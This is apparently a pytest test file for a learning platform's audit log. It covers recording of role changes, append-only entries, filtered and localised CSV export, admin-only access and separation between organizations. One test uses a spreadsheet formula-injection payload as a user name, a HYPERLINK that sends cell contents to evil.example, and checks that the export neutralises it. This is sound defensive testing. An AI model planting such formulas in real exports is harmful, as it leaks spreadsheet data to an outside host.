"""The audit log: role changes through the API are recorded; entries cannot be changed; the
admin page filters them, exports them as CSV and is for admins only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import time_machine
from sqlalchemy import select

from lms.accounts import audit
from lms.accounts.models import AuditEvent, Role
from lms.extensions import db


def test_role_change_is_audited_and_listed_for_admins_only(create_org, create_user, client,
                                                            login, api_token):
    org = create_org(slug="acme")
    admin = create_user(Role.ADMIN, org=org)
    hr = create_user(Role.HR, org=org)
    create_user(org=org, email="bob@example.com")
    headers = api_token(admin)
    response = client.post("/api/v1/orgs/acme/members", headers=headers,
                           json={"email": "bob@example.com", "role": "trainer"})
    assert response.status_code == 200
    unchanged = client.post("/api/v1/orgs/acme/members", headers=headers,
                            json={"email": "bob@example.com", "role": "trainer"})
    assert unchanged.status_code == 200
    entries = db.session.scalars(select(AuditEvent).where(
        AuditEvent.action == "member.role_change")).all()
    assert [(e.action, e.details, e.actor_id, e.organization_id) for e in entries] == [
        ("member.role_change", {"from": "learner", "to": "trainer"}, admin.id, org.id)]
    assert entries[0].address == "127.0.0.1" and "bob" not in entries[0].target

    login(admin)
    page = client.get("/o/acme/audit?action=member.role_change&days=7")
    assert page.status_code == 200 and "member.role_change" in page.get_data(as_text=True)
    other = client.get("/o/acme/audit?action=personal_data.erase").get_data(as_text=True)
    # What follows the filter form, whose options name every action.
    listing = other.split('class="filters"', 1)[1].split("</form>", 1)[1]
    assert "member.role_change" not in listing and "Nothing recorded." in listing
    client.post("/logout")
    login(hr)
    assert client.get("/o/acme/audit").status_code == 403


def test_entries_are_append_only(create_org):
    org = create_org()
    entry = audit.record(action="personal_data.export", actor=None, organization=org,
                         target="user:1")
    db.session.commit()
    entry.target = "user:2"
    with pytest.raises(RuntimeError):
        db.session.flush()
    db.session.rollback()
    with pytest.raises(RuntimeError):
        db.session.delete(db.session.get(AuditEvent, entry.id))
        db.session.flush()
    db.session.rollback()


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_lists_every_filtered_entry_in_the_readers_language(create_org, create_user,
                                                                 client, login):
    org = create_org(slug="acme")
    admin = create_user(Role.ADMIN, org=org, name="Alice Martin")
    with time_machine.travel(datetime.now(UTC) - timedelta(days=30)):
        audit.record(action="member.role_change", actor=admin, organization=org,
                     target="membership:1", details={"from": "learner", "to": "hr"})
    recent = audit.record(action="member.role_change", actor=admin, organization=org,
                          target="membership:2", address="203.0.113.7",
                          details={"from": "learner", "to": "trainer"})
    audit.record(action="retention.run", actor=None, organization=org,
                 details={"by": "periodic"})
    # More than a page of the screen (50) and more than a streamed batch: all of them come.
    for n in range(260):
        audit.record(action="api_token.create", actor=None, organization=org,
                     target=f"api_token:{n}")
    db.session.commit()
    login(admin)

    rows = _csv(client.get("/o/acme/audit?action=member.role_change&days=7&format=csv"))
    assert rows[0] == ["When", "Who", "Action", "Target", "Address", "Details"]
    assert rows[1:] == [[recent.at.astimezone(UTC).isoformat(), "Alice Martin",
                         "Role changed (member.role_change)", "membership:2", "203.0.113.7",
                         '{"from": "learner", "to": "trainer"}']]
    assert rows[1][0].endswith("+00:00")

    everything = _csv(client.get("/o/acme/audit?format=csv"))
    assert len(everything) == 1 + 263
    assert sum(r[2] == "API token created (api_token.create)" for r in everything) == 260
    periodic = next(r for r in everything if r[2].endswith("(retention.run)"))
    assert periodic[1] == "scheduled work" and periodic[4] == ""
    assert next(r for r in everything if r[3] == "api_token:0")[1] == "command line"

    page = client.get("/o/acme/audit?action=member.role_change&days=7").get_data(as_text=True)
    assert "format=csv" in page and "days=7" in page and "Download CSV" in page

    admin.locale = "fr"
    db.session.commit()
    french = _csv(client.get("/o/acme/audit?action=member.role_change&format=csv"))
    assert french[0][:3] == ["Quand", "Qui", "Action"]
    assert french[1][2] == "Rôle modifié (member.role_change)" and len(french) == 3


def test_csv_neutralises_formulas_is_for_admins_and_stays_in_the_organization(
        create_org, create_user, client, login):
    org, other = create_org(slug="acme"), create_org(slug="globex")
    admin = create_user(Role.ADMIN, org=org, name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    hr = create_user(Role.HR, org=org)
    other_admin = create_user(Role.ADMIN, org=other, name="Olivia Other")
    audit.record(action="certificate.revoke", actor=admin, organization=org,
                 target="certificate:1")
    audit.record(action="certificate.revoke", actor=other_admin, organization=other,
                 target="certificate:99")
    db.session.commit()

    login(admin)
    rows = _csv(client.get("/o/acme/audit?format=csv"))
    assert [r[1] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")']
    assert "certificate:99" not in str(rows) and "Olivia" not in str(rows)
    # Another organization's log is not reachable from this membership.
    assert client.get("/o/globex/audit?format=csv").status_code in (403, 404)
    client.post("/logout")

    login(hr)
    assert client.get("/o/acme/audit?format=csv").status_code == 403
    client.post("/logout")

    login(other_admin)
    rows = _csv(client.get("/o/globex/audit?format=csv"))
    assert [(r[1], r[3]) for r in rows[1:]] == [("Olivia Other", "certificate:99")]
